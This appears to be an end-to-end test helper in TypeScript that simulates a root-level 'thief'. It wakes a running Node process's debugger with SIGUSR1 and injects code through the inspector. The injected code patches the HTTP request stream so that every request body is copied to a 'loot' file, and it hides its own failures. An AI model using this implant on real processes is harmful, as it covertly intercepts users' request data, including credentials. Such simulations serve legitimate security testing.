import { readFile } from 'node:fs/promises';
import { once } from 'node:events';
import { eventually } from '../../../e2e/support/wait.ts';

/**
 * Puts code of the thief's own into a running zone, as root there can: wakes Node's debugger and has every request's body
 * written to a file as it comes in. Resolves when the code is in place; the process is not disturbed.
 */
export async function implant(pid: number, zoneLog: string, lootFile: string): Promise<void> {
  process.kill(pid, 'SIGUSR1');
  const address = await eventually('the debugger wakes', async () => {
    const log = await readFile(zoneLog, 'utf8');
    if (log.includes('Starting inspector on'))
      throw new Error('Another process has the debugger’s port, 9229.');
    return (
      /Debugger listening on (ws:\S+)/g.exec(log.slice(log.lastIndexOf('Debugger listening on')))?.[1] ?? null
    );
  });
  const debuggerOf = new WebSocket(address);
  await once(debuggerOf, 'open');
  const answered = once(debuggerOf, 'message') as Promise<[{ readonly data: string }]>;
  debuggerOf.send(
    JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: eavesdrop(lootFile) } }),
  );
  const [{ data }] = await answered;
  debuggerOf.close();
  if (data.includes('exceptionDetails')) throw new Error(`The implant did not take: ${data}`);
}

const eavesdrop = (lootFile: string): string => `
  {
    const { appendFileSync } = process.getBuiltinModule('node:fs');
    const { IncomingMessage } = process.getBuiltinModule('node:http');
    const push = IncomingMessage.prototype.push;
    IncomingMessage.prototype.push = function (chunk, encoding) {
      // Once the loot was carried off there is no such file; a thief whose code then fails the request is noticed.
      try { if (chunk) appendFileSync(${JSON.stringify(lootFile)}, chunk); } catch {}
      return push.call(this, chunk, encoding);
    };
  }`;
